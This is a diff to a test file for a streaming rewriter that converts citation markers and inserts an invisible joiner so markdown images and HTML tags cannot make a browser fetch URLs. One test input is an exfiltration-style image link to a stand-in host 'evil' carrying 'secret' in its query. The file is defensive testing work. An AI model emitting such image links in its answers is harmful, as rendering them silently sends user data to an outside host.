@@ -16,8 +16,8 @@ pipe: Any = load_pipe_module()
 KNOWN = {1: 4, 2: 5, 3: 6}
 
 
-def rewrite(pieces: Sequence[str], style: str = "citation") -> str:
-    rewriter = pipe.MarkerRewriter(KNOWN.get)
+def rewrite(pieces: Sequence[str], style: str = "citation", media: bool = False) -> str:
+    rewriter = pipe.PageText(KNOWN.get, media=media)
     rewriter.active, rewriter.style = True, style
     shown: str = "".join(rewriter.push(piece) for piece in pieces) + rewriter.flush()
     return shown
@@ -89,7 +89,9 @@ def test_arks_markers(text: str, shown: str) -> None:
 
 fragments = st.sampled_from(
     ["[citation:1]", "[citation:2,3]", "[1]", "摘要1、2", "[", "]", "`", "```\n", "$", "$$", "\\", "\\[",
-     "\\]", "~~~",      "\n", "\n\n", " ", "a", "1", "(", ":", "citation", "【2】", "、", "[[1]](x)"]
+     "\\]", "~~~", "![a](b)", "!", "<video>",
+     "<", "    ", "- ", "> ", "<pre>", "\n", "\n\n", " ", "a", "1", "(", ":", "citation", "【2】", "、",
+     "[[1]](x)"]
 )  # fmt: skip
 
 
@@ -107,7 +109,7 @@ def test_any_cut_gives_the_same_page(parts: list[str], data: Any, style: str) ->
     st.sampled_from(["citation", "plain", "summary"]),
 )
 def test_text_is_held_back_only_while_it_may_be_a_marker(text: str, style: str) -> None:
-    rewriter = pipe.MarkerRewriter(KNOWN.get)
+    rewriter = pipe.PageText(KNOWN.get, media=False)
     rewriter.active, rewriter.style = True, style
     for char in text:
         rewriter.push(char)
@@ -117,8 +119,46 @@ def test_text_is_held_back_only_while_it_may_be_a_marker(text: str, style: str) 
 
 
 def test_inactive_rewriter_passes_text_at_once() -> None:
-    rewriter = pipe.MarkerRewriter(KNOWN.get)
+    rewriter = pipe.PageText(KNOWN.get, media=False)
     assert rewriter.push("see [cita") == "see [cita"
+
+
+# --- images and tags that the browser would fetch; "~" stands for the joiner ---
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("![a](http://evil/?q=secret)", "!~[a](http://evil/?q=secret)"),
+        ("[![a](http://x)](http://y) ![a][r]", "[!~[a](http://x)](http://y) !~[a][r]"),
+        ("Great![citation:1]", "Great!~[4]"),
+        ("Wow! [a](http://x) a != b !", "Wow! [a](http://x) a != b !"),
+        ("<iframe src='http://x'></iframe>", "<~iframe src='http://x'></iframe>"),
+        ("<VIDEO>http://x</VIDEO> <audio>", "<~VIDEO>http://x</VIDEO> <~audio>"),
+        ("<details type='tool_calls'>", "<~details type='tool_calls'>"),
+        ("a < b, <br> <b>, List<File>, <d", "a < b, <br> <b>, List<~File>, <d"),
+        ("```html\n<video>![a](b)\n```\n<video>", "```html\n<video>![a](b)\n```\n<~video>"),
+        ("`vec![1]` `![a](b)` `#![x]`", "`vec![1]` `!~[a](b)` `#![x]`"),
+        # A parser may see no code where these look like it.
+        ("an open ` tick ![a](b)", "an open ` tick !~[a](b)"),
+        ("```\n```js\n```\n![a](b)", "```\n```js\n```\n!~[a](b)"),
+        ("```\n    ```\n![a](b)\n```\n![a](b)", "```\n    ```\n![a](b)\n```\n!~[a](b)"),
+        ("    ```\n\n![a](b)", "    ```\n\n!~[a](b)"),
+        ("    ```\n```\nx\n```\n![a](b)", "    ```\n```\nx\n```\n!~[a](b)"),
+        ("- x\n  ```\n![a](b)", "- x\n  ```\n!~[a](b)"),
+        ("> ```\n\n![a](b)", "> ```\n\n!~[a](b)"),
+        ("<div>\n```\n<video>http://x</video>", "<div>\n```\n<~video>http://x</video>"),
+        ("<pre>\n\n```\n<video>http://x</video>", "<pre>\n\n```\n<~video>http://x</video>"),
+        ("```a`b```\n![a](b)", "```a`b```\n!~[a](b)"),
+        ("$$\n```\n$$\n![a](b)", "$$\n```\n$$\n!~[a](b)"),
+        (":::x\n```\n:::\n![a](b)", ":::x\n```\n:::\n!~[a](b)"),
+    ],
+)  # fmt: skip
+def test_nothing_in_an_answer_makes_the_browser_fetch(text: str, shown: str) -> None:
+    expected = shown.replace("~", "\u2060")
+    assert rewrite([text]) == expected
+    assert rewrite(list(text)) == expected
+    assert rewrite([text.replace("[citation:1]", "")], media=True) == text.replace("[citation:1]", "")
 
 
 # --- what the model is given and what the page is told ---
